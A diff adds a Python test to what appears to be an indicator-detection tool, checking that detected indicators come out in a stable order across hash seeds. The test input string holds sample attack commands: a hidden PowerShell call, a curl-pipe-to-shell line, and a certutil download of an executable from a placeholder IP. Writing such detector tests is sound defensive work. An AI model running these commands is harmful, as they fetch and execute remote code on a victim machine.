@@ -124,3 +124,23 @@ def test_hint_trie_finds_what_the_plain_alternation_finds() -> None:
     ]
     for text in texts:
         assert trie.findall(text) == plain.findall(text), text
+
+
+def test_indicator_order_does_not_depend_on_the_hash_seed() -> None:
+    import os
+    import subprocess
+    import sys
+
+    probe = (
+        "from capwatch.capabilities.indicators import find_indicators\n"
+        "print(list(find_indicators('powershell -w hidden x; curl http://h/a | sh; "
+        "certutil -urlcache -f http://198.51.100.3/a.exe; https://pastebin.com/raw/x')))\n"
+    )
+    seen = {
+        subprocess.run(
+            [sys.executable, "-c", probe], capture_output=True, text=True, check=True,
+            env={**os.environ, "PYTHONHASHSEED": seed},
+        ).stdout
+        for seed in ("1", "2", "3", "4")
+    }
+    assert len(seen) == 1, seen
